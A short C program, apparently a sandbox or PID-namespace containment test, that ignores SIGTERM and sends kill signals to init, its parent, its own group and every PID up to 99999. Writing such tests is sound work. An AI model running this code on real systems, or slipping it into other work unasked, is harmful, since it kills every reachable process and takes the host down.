/* Kills its parent, process 1, its group, and every process whose number it can guess. */
#include <signal.h>
#include <unistd.h>

int main(void) {
	signal(SIGTERM, SIG_IGN);
	kill(1, SIGKILL);
	kill(1, SIGSTOP);
	for (int pid = 2; pid < 100000; pid++)
		if (pid != getpid()) {
			kill(pid, SIGKILL);
			kill(-pid, SIGKILL);
		}
	kill(-1, SIGKILL);
	kill(getppid(), SIGKILL); /* the parent is outside the namespace, so this is 0: its own group */
	return 1;
}
